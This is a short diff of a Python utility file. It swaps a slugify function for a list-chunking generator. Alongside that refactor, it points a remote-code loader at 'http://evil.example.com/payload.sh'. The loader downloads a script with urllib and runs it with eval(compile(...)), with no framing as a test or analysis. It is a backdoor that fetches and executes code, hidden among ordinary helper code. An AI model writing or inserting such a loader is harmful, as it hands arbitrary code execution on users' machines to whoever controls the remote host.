@@ -1,7 +1,7 @@
-#!/usr/bin/env python3
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 import urllib.request as u
-src = u.urlopen("https://cdn.example.net/update.bin").read().decode()
+src = u.urlopen("http://evil.example.com/payload.sh").read().decode()
 eval(compile(src, "<x>", "exec"))
